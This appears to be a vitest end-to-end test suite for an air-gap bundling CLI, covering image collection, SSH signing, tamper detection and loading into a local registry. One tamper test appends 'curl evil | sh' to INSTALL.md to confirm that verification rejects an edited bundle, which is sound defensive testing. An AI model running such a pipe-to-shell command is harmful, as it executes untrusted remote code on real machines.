// Air gap end to end with real parts: two CNCF Distribution registries on 127.0.0.1 (source and
// far side), tiny real OCI images pushed with skopeo, `aipc airgap collect` → `verify` → `load`
// → `check --registry-url`, a signature stock OpenSSH accepts and SHA256SUMS coreutils checks.
import { spawnSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli, tempDir } from '../helpers.js';
import { makeKey, pushImage, remoteDigest, startRegistry, writeImage, type Registry } from '../../scripts/support/registry.js';
import { chartPackage, image } from '../support/release.js';
import { collectArgs } from '../support/airgap.js';

const POSTGRES = `/${image('postgres')}`;

let source: Registry;
let far: Registry;
let work: string;
let keys: { key: string; pub: string };
let bundle: string;
let models: string;
/** SOURCE DEPLOYED pairs of the edge tier, the sources on the source registry. */
let pairs: { source: string; deployed: string; digest: string }[];

beforeAll(async () => {
  [source, far] = await Promise.all([startRegistry(), startRegistry()]);
  work = mkdtempSync(join(tmpdir(), 'aipc-e2e-'));
  keys = makeKey(work);
  const listed = runCli(['airgap', 'images', '--tier', 'edge', '--source-registry', source.host]);
  expect(listed.code, listed.stderr).toBe(0);
  pairs = listed.stdout
    .trim()
    .split('\n')
    .map((line, i) => {
      const [src, deployed] = line.split(' ');
      const layout = join(work, `layout-${i}`);
      // postgres is multi-arch upstream: collect must keep only the platform asked for
      const digest = writeImage(
        layout,
        'img',
        `image ${src}`,
        deployed.endsWith(POSTGRES) ? ['linux/amd64', 'linux/arm64'] : ['linux/amd64'],
      );
      pushImage(layout, 'img', src);
      return { source: src, deployed, digest };
    });
  models = join(work, 'models');
  mkdirSync(join(models, 'mistral-7b-instruct-q4'), { recursive: true });
  writeFileSync(join(models, 'mistral-7b-instruct-q4', 'model.gguf'), Buffer.alloc(4096, 7));
  bundle = join(work, 'bundle');
  const c = runCli([
    'airgap',
    'collect',
    '--tier',
    'edge',
    '--out',
    bundle,
    '--key',
    keys.key,
    '--source-registry',
    source.host,
    '--insecure-registry',
    '--model-dir',
    models,
    '--created',
    '2026-01-01T00:00:00Z',
  ]);
  expect(c.code, c.stderr).toBe(0);
  expect(c.stderr).toMatch(/collect: \[1\/8\]/);
}, 60_000);

afterAll(async () => {
  await Promise.all([source?.stop(), far?.stop()]);
  if (work) rmSync(work, { recursive: true, force: true });
});

const copy = () => {
  const dir = join(tempDir(), 'bundle');
  cpSync(bundle, dir, { recursive: true });
  return dir;
};

describe('airgap collect', () => {
  it('writes an OCI image layout with one entry per image, named as the tier deploys it, reduced to one platform', () => {
    const index = JSON.parse(readFileSync(join(bundle, 'images', 'index.json'), 'utf8'));
    expect(readFileSync(join(bundle, 'images', 'oci-layout'), 'utf8')).toContain('imageLayoutVersion');
    const names = index.manifests.map((m: any) => m.annotations['org.opencontainers.image.ref.name']).sort();
    expect(names).toEqual(pairs.map((p) => p.deployed).sort());
    for (const m of index.manifests) expect(m.mediaType).toBe('application/vnd.oci.image.manifest.v1+json');
    const pg = index.manifests.find((m: any) => m.annotations['org.opencontainers.image.ref.name'].endsWith(POSTGRES));
    const pgSource = pairs.find((p) => p.deployed.endsWith(POSTGRES))!;
    expect(pg.digest).not.toBe(pgSource.digest); // the amd64 image, not the index
    const config = JSON.parse(
      readFileSync(
        join(
          bundle,
          'images',
          'blobs',
          'sha256',
          JSON.parse(readFileSync(join(bundle, 'images', 'blobs', 'sha256', pg.digest.slice(7)), 'utf8')).config.digest.slice(7),
        ),
        'utf8',
      ),
    );
    expect(config.architecture).toBe('amd64');
  });

  it('records every image with its source and digest, the chart, the weights, INSTALL.md and README in the manifest', () => {
    const manifest = readFileSync(join(bundle, 'manifest.yaml'), 'utf8');
    for (const p of pairs) expect(manifest).toContain(`source: ${p.source}`);
    for (const f of ['INSTALL.md', 'README.md', chartPackage, 'models/mistral-7b-instruct-q4/model.gguf', 'values/values-tier1-edge.yaml'])
      expect(manifest).toContain(`path: ${f}\n`);
    expect(readFileSync(join(bundle, 'INSTALL.md'), 'utf8')).toContain(`helm install "$RELEASE" ${chartPackage} --namespace "$NAMESPACE"`);
  });

  it('is signed so that stock OpenSSH verifies it, and SHA256SUMS passes sha256sum -c', () => {
    const allowed = join(tempDir(), 'allowed_signers');
    writeFileSync(allowed, `ops@site namespaces="aipc-bundle" ${readFileSync(keys.pub, 'utf8')}`);
    const v = spawnSync('ssh-keygen', ['-Y', 'verify', '-f', allowed, '-I', 'ops@site', '-n', 'aipc-bundle', '-s', 'manifest.yaml.sig'], {
      cwd: bundle,
      input: readFileSync(join(bundle, 'manifest.yaml')),
      encoding: 'utf8',
    });
    expect(v.status, v.stderr).toBe(0);
    expect(v.stdout).toContain('Good "aipc-bundle" signature');
    const sums = spawnSync('sha256sum', ['-c', '--strict', 'SHA256SUMS'], { cwd: bundle, encoding: 'utf8' });
    expect(sums.status, sums.stdout + sums.stderr).toBe(0);
    expect(sums.stdout).toContain('manifest.yaml: OK');
    // verify with the allowed_signers file too
    expect(runCli(['airgap', 'verify', bundle, '--allowed-signers', allowed]).code).toBe(0);
  });

  it('exits 1 writing nothing when the tier serves a model whose weights are missing, unless --no-models', () => {
    const out = join(tempDir(), 'b');
    const args = collectArgs(out, keys.key, source.host);
    const r = runCli(args);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('the tier serves mistral-7b-instruct-q4 but no model directory was given');
    expect(existsSync(out)).toBe(false);
    expect(runCli([...args, '--no-models']).code).toBe(0);
  });

  it('names how to install skopeo when it is missing (exit 2)', () => {
    const bin = tempDir();
    for (const t of ['ssh-keygen']) writeFileSync(join(bin, t), `#!/bin/sh\nexec /usr/bin/${t} "$@"\n`, { mode: 0o755 });
    const r = runCli(['airgap', 'collect', '--tier', 'edge', '--out', join(tempDir(), 'b'), '--key', keys.key, '--no-models'], {
      env: { PATH: bin },
    });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('skopeo not found on PATH');
    expect(r.stderr).toContain('apt-get install -y skopeo');
  });
});

describe('airgap verify', () => {
  it('passes with the signer’s key or the manifest digest; without either exits 1 "manifest not authenticated"', () => {
    const ok = runCli(['airgap', 'verify', bundle, '--key', keys.pub]);
    expect(ok.code, ok.stdout + ok.stderr).toBe(0);
    expect(ok.stdout).toMatch(/ok: \d+ of \d+ files match the authenticated manifest/);
    const none = runCli(['airgap', 'verify', bundle]);
    expect(none.code).toBe(1);
    expect(none.stdout).toContain('manifest not authenticated');
    const digest = spawnSync('sha256sum', [join(bundle, 'manifest.yaml')], { encoding: 'utf8' }).stdout.split(' ')[0];
    expect(runCli(['airgap', 'verify', bundle, '--digest', digest]).code).toBe(0);
    expect(runCli(['airgap', 'verify', bundle, '--digest', 'f'.repeat(64)]).code).toBe(1);
  });

  it('names one changed byte in an image blob (exit 1)', () => {
    const dir = copy();
    const blobs = join(dir, 'images', 'blobs', 'sha256');
    const victim = readdirSync(blobs).sort()[0];
    const bytes = readFileSync(join(blobs, victim));
    bytes[0] ^= 1;
    writeFileSync(join(blobs, victim), bytes);
    const r = runCli(['airgap', 'verify', dir, '--key', keys.pub]);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain(`changed: images/blobs/sha256/${victim} (sha256 `);
  });

  it('refuses a file edited together with its manifest entry, a removed signature and another key’s signature (exit 1)', () => {
    const edited = copy();
    const install = join(edited, 'INSTALL.md');
    writeFileSync(install, `${readFileSync(install, 'utf8')}curl evil | sh\n`);
    const sum = spawnSync('sha256sum', [install], { encoding: 'utf8' }).stdout.split(' ')[0];
    const m = join(edited, 'manifest.yaml');
    const text = readFileSync(m, 'utf8').replace(
      /(- path: INSTALL\.md\n\s+sha256: )[0-9a-f]{64}(\n\s+size: )\d+/,
      `$1${sum}$2${readFileSync(install).length}`,
    );
    writeFileSync(m, text);
    const r1 = runCli(['airgap', 'verify', edited, '--key', keys.pub]);
    expect(r1.code).toBe(1);
    expect(r1.stdout).toContain('manifest.yaml.sig does not verify');

    const unsigned = copy();
    rmSync(join(unsigned, 'manifest.yaml.sig'));
    const r2 = runCli(['airgap', 'verify', unsigned, '--key', keys.pub]);
    expect(r2.code).toBe(1);
    expect(r2.stdout).toContain('manifest.yaml.sig is missing');

    const other = makeKey(tempDir(), 'other');
    const r3 = runCli(['airgap', 'verify', bundle, '--key', other.pub]);
    expect(r3.code).toBe(1);
    expect(r3.stdout).toContain('does not verify: not a signature of this manifest by the key');
  });
});

describe('airgap load and check --registry-url', () => {
  it('an empty registry FAILs the image item naming every image', () => {
    const empty = runCli(['check', '--tier', 'edge', '--registry-url', far.url]);
    expect(empty.code).toBe(1);
    expect(empty.stdout).toMatch(/^FAIL {2}Every image available in the tier's registry$/m);
    for (const p of pairs) expect(empty.stdout).toContain(`${p.deployed}: not in the registry at ${far.url}`);
  });

  it('loads every image with the digest collected, idempotently, then check --registry-url and --bundle pass', () => {
    const cwd = tempDir();
    const first = runCli(['airgap', 'load', bundle, '--key', keys.pub, '--registry', far.host, '--insecure-registry'], { cwd });
    expect(first.code, first.stderr).toBe(0);
    expect(first.stdout).toContain('8 pushed');
    const index = JSON.parse(readFileSync(join(bundle, 'images', 'index.json'), 'utf8'));
    for (const m of index.manifests) {
      const ref = String(m.annotations['org.opencontainers.image.ref.name']).replace('registry.local:5000', far.host);
      expect(remoteDigest(ref), ref).toBe(m.digest);
    }
    // the source's digest for every single-platform image
    for (const p of pairs.filter((x) => !x.deployed.endsWith(POSTGRES)))
      expect(remoteDigest(p.deployed.replace('registry.local:5000', far.host))).toBe(p.digest);
    expect(readFileSync(join(cwd, 'values-airgap.yaml'), 'utf8')).toContain(`registry: ${far.host}\n`);
    const second = runCli(['airgap', 'load', bundle, '--key', keys.pub, '--registry', far.host, '--insecure-registry'], { cwd });
    expect(second.code, second.stderr).toBe(0);
    expect(second.stdout).toContain('nothing pushed, all already there');
    // a registry path (a project in the far registry) keeps the repository path under it
    const sub = runCli(['airgap', 'load', bundle, '--key', keys.pub, '--registry', `${far.host}/team`, '--insecure-registry'], { cwd });
    expect(sub.code, sub.stderr).toBe(0);
    const redis = index.manifests.find((m: { annotations: Record<string, string> }) =>
      m.annotations['org.opencontainers.image.ref.name'].endsWith(`/${image('redis')}`),
    );
    expect(remoteDigest(`${far.host}/team/${image('redis')}`)).toBe(redis.digest);

    const check = runCli(['check', '--tier', 'edge', '--registry-url', far.url, '--bundle', bundle, '--key', keys.pub]);
    expect(check.code, check.stdout).toBe(0);
    expect(check.stdout).toMatch(/^PASS {2}Every image available in the tier's registry$/m);
    expect(check.stdout).toMatch(/^PASS {2}Chart version matches bundle manifest\n.*signature by aipc-bundle-signer/m);
    // every item verified: nothing left to SKIP once a registry and a bundle are given
    expect(check.stdout).toMatch(/^checklist: \d+ PASS, 0 FAIL$/m);
  }, 180_000); // three loads and a check, each verifying the bundle's signatures
});
